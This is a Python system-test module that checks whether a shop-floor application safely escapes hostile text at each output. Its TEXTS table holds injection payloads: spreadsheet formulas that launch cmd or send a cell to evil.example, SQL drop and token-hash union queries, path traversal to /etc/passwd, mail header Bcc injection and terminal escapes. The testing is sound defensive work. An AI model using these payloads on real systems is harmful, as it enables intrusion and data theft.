"""``python -m tests.system.simulate inject``: what a text can try, at every way out.

Texts that are formulas, SQL, rich text, commands of a label printer, headers of a mail, paths, or no decent text at all
come in as people and files bring them (notes, persons, item texts, lots, devices, label contents, settings) and are
looked for where they leave: the database and the hub and back, the clipboard's table, labels, mail, the settings file,
PDF, names of files and lists of files, tool tips and labels of both windows. The product writes no HTML.
"""

import argparse
import csv
import io
import sys
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from pathlib import Path

from sqlalchemy import select

from floorledger.adapters import hub_tables, terminal_tables
from floorledger.domain.chain import read_event
from floorledger.domain.device_detail import SignIn
from floorledger.main.assets import asset
from floorledger.services.notify import plain
from floorledger.services.settings import DeviceKind, DeviceSettings, Settings, TerminalSettings
from floorledger.services.settings_file import read_settings, write_settings
from floorledger.services.zpl import escaped
from floorledger.ui.tables.tsv import tsv
from floorledger.ui.tips import tip
from tests.rig import OPERATOR, Rig
from tests.system.simulate import inject_paper, inject_windows, quick

TEXTS = {
    "formula": "=1+1",
    "formula that calls": "=cmd|' /C calc'!A0",
    "formula with a link": '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab before": "\t=1+1",
    "carriage return before": "\r=1+1",
    "line feed before": "\n=1+1",
    "NUL before": "\0=1+1",
    "quoted": '"=1+1"',
    "quote never closed": '"a',
    "full width": "\uff1d1+1",
    "a cell and the next": "x\t=1+1",
    "a row and the next": "x\n=1+1",
    "vertical tab": "x\v=1+1",
    "line separator": "x\u2028=1+1",
    "SQL": "'; DROP TABLE log; --",
    "SQL in quotes": '"; DELETE FROM event; --',
    "SQL union": "' UNION SELECT token_hash FROM token --",
    "LIKE": "%_\\",
    "JSON path": "$.detail.item",
    "bold": "<b>bold</b>",
    "picture from elsewhere": "<img src='file://evil.example/share/x.png'>",
    "link": "<a href='http://evil.example'>x</a>",
    "script": "<script>alert(1)</script>",
    "style": "<style>*{color:white}</style>x",
    "broken tag": "<b",
    "entity": "&lt;b&gt;",
    "ZPL": "^XA^FDx^FS^XZ",
    "ZPL of another kind": "~JR",
    "ZPL hex": "\\5E\\7E_5E",
    "mail header": "x\r\nBcc: all@evil.example",
    "mail end": "x\r\n.\r\nMAIL FROM:<evil@evil.example>",
    "path": "../../../etc/passwd",
    "path of Windows": "..\\..\\windows\\win.ini",
    "drive": "C:\\x",
    "share": "\\\\evil.example\\share",
    "device of Windows": "CON",
    "name with an end": "x\0.pdf",
    "format": "%s%n{0}{x.__class__}",
    "template": "${7*7}{{7*7}}",
    "TOML": '"\n[hub]\nurl = "http://evil.example"',
    "terminal": "\x1b]0;owned\x07\x1b[2J",
    "right to left": "\u202egpj.exe",
    "zero width": "a\u200b\u2060b",
    "joined many": "a" + "\u0301" * 200,
    "long": "x" * 5_000,
    "no character": "\ufffe\uffff",
    "emoji": "\U0001f469\u200d\U0001f3ed",
    "blank": " ",
}


@dataclass
class Sums:
    """What came of all texts at all ways out."""

    runs: int = 0
    exits: Counter[str] = field(default_factory=Counter)
    refused: Counter[str] = field(default_factory=Counter)
    events: int = 0
    shown: inject_windows.Shown = field(default_factory=inject_windows.Shown)
    violations: list[str] = field(default_factory=list)


def _table(text: str) -> None:
    """One cell stays one cell, and none begins as a formula does."""
    made = tsv([[text, "1"], ["a", text]])
    for rows in (
        list(csv.reader(io.StringIO(made.replace("\0", "")), delimiter="\t", quotechar='"')),
        [line.split("\t") for line in made.splitlines()],
    ):
        assert [len(row) for row in rows] == [2, 2], rows
        assert [rows[0][1], rows[1][0]] == ["1", "a"], rows
        for cell in (rows[0][0], rows[1][1]):
            assert not cell.lstrip("\0").startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), repr(cell)


def _printer(text: str) -> None:
    """No command's sign is left, and the printer reads the text back."""
    made = escaped(text)
    assert not set(made) & set("^~"), made
    assert made.isascii()
    assert made.isprintable()
    parts = made.split("\\")
    shown = parts[0].encode() + b"".join(bytes.fromhex(part[:2]) + part[2:].encode() for part in parts[1:])
    assert shown == text.encode("utf-8"), shown


def _mail(text: str) -> None:
    """One line, and nothing in it that a terminal or a mail server obeys."""
    made = plain(text)
    assert "\r" not in made
    assert "\n" not in made
    assert "\x1b" not in made
    assert "\0" not in made


def _settings(text: str) -> None:
    """What was written is read back, and nothing else is set by it. ValueError says that it is not taken."""
    device = DeviceSettings(name=text, kind=DeviceKind.SCANNER, port="/dev/ttyACM0")
    made = Settings(terminal=TerminalSettings(work_center="100"), devices=(device,))
    assert read_settings(write_settings(made).encode()) == made


def _tip(text: str) -> None:
    """Qt shows it letter by letter, whatever it looks like."""
    shown = inject_windows.as_shown(tip(text))
    assert inject_windows.letters(shown) == inject_windows.letters(text), shown


EXITS: dict[str, Callable[[str], None]] = {
    "clipboard's table": _table,
    "label printer": _printer,
    "mail": _mail,
    "settings file": _settings,
    "tool tip": _tip,
    **inject_paper.EXITS,
}


def through(texts: dict[str, str], folder: Path, rig_template: Path | None, sums: Sums) -> None:
    """Through capture, log, hub, feed and the terminal's look-ups, and back letter by letter."""
    rig = Rig(folder / "plant", rig_template)
    try:
        tables = _tables(rig)
        for name, text in texts.items():
            sums.runs += 1
            sums.exits["database, hub and back"] += 1
            try:
                _recorded(rig, text)
            except (ValueError, LookupError) as error:
                sums.refused[f"capture: {type(error).__name__}"] += 1
            except Exception as error:  # noqa: BLE001 - whatever it is, it is the finding
                sums.violations.append(f"{name}, through capture: {type(error).__name__}: {str(error)[:200]}")
        rig.installation.settle()
        _compare(rig, texts, sums)
        if _tables(rig) != tables:
            sums.violations.append("tables, triggers or indexes are not as they were")
        _typed(rig, texts, sums)
        sums.violations += inject_paper.bundle(rig, texts, folder / "bundle")
    finally:
        rig.close()


def _recorded(rig: Rig, text: str) -> None:
    rig.clock.forward(1)
    draft = rig.draft(
        SignIn(), order_no=None, operation_no=None, work_center=None, note=text, serial=text, location=text
    )
    recorded = rig.installation.capture.record(draft, replace(OPERATOR, person_id=text))
    assert recorded.event is not None
    assert rig.event(recorded.event_id).serial == text


def _compare(rig: Rig, texts: dict[str, str], sums: Sums) -> None:
    held = {event.serial: event for event, _ in rig.hub.store.standings() if event.serial is not None}
    sums.events = len(held)
    with rig.hub.store.engine.connect() as connection:
        notes = {row.event_id: row.text for row in connection.execute(select(hub_tables.note))}
    with rig.installation.store.engine.connect() as connection:
        own = {read_event(body).serial for body in connection.scalars(select(terminal_tables.log.c.body))} - {None}
    for text in own:
        assert text is not None
        event = held.get(text)
        if event is None or (event.location, event.actor, notes.get(event.event_id)) != (text, text, text):
            sums.violations.append(f"at the hub {text[:40]!r} is not what it was")
    if rig.installation.store.waiting_count():
        sums.violations.append("a text holds up what waits")


def _typed(rig: Rig, texts: dict[str, str], sums: Sums) -> None:
    """The same as scans, and where somebody looks for something."""
    terminal = rig.terminal()
    for name, text in texts.items():
        sums.runs += 1
        sums.exits["scan"] += 1
        try:
            view = terminal.scan(text.encode()[:4000])
            assert view.person is None, "somebody is signed in"
            rig.installation.store.events_of_order(text)
            rig.installation.store.event(text)
            rig.installation.store.consumers(text, text)
            rig.installation.store.times_of(text, rig.clock.now())
        except Exception as error:  # noqa: BLE001 - whatever it is, it is the finding
            sums.violations.append(f"{name}, as a scan: {type(error).__name__}: {str(error)[:200]}")


def _tables(rig: Rig) -> list[tuple[object, ...]]:
    found: list[tuple[object, ...]] = []
    for engine in (rig.installation.store.engine, rig.hub.store.engine, rig.hub.ledger.engine):
        with engine.connect() as connection:
            found += [tuple(row) for row in connection.exec_driver_sql("SELECT type, name, sql FROM sqlite_master")]
    return found


def sweep(folder: Path, rig_template: Path | None = None, texts: dict[str, str] = TEXTS) -> Sums:
    """Every text at every way out."""
    sums = Sums()
    for way, look in EXITS.items():
        for name, text in texts.items():
            sums.runs += 1
            sums.exits[way] += 1
            try:
                look(text)
            except ValueError:
                sums.refused[way] += 1
            except Exception as error:  # noqa: BLE001 - whatever it is, it is the finding
                sums.violations.append(f"{name}, {way}: {type(error).__name__}: {str(error)[:200]}")
    with quick.compiled_once():
        through(texts, folder, rig_template, sums)
    inject_windows.walk(sums.shown)
    sums.violations += sums.shown.violations
    return sums


def main(arguments: list[str]) -> int:
    """Try every text; 1 when something did not hold."""
    parser = argparse.ArgumentParser(prog="python -m tests.system.simulate inject", description=__doc__)
    parser.add_argument("--text", choices=tuple(TEXTS))
    asked = parser.parse_args(arguments)
    began = time.monotonic()
    texts = {asked.text: TEXTS[asked.text]} if asked.text else TEXTS
    assert asset("db", "migrations")
    with quick.folder() as folder:
        sums = sweep(Path(folder), None, texts)
    print(f"runs {sums.runs}, texts {len(texts)}, events {sums.events}, {time.monotonic() - began:.0f} s")
    shown = sums.shown
    print(f"windows: {shown.pictures} pictures, {shown.labels} labels and {shown.tips} tool tips with such a text")
    print("ways out: " + ", ".join(f"{name} {sums.exits[name]}" for name in sorted(sums.exits)))
    print("refused there: " + (", ".join(f"{name} {sums.refused[name]}" for name in sorted(sums.refused)) or "none"))
    for violation in sums.violations:
        again = violation.split(", ")[0]
        print(f'  {violation}\n    to repeat it: python -m tests.system.simulate inject --text "{again}"')
    print(f"violations {len(sums.violations)}")
    return 1 if sums.violations else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
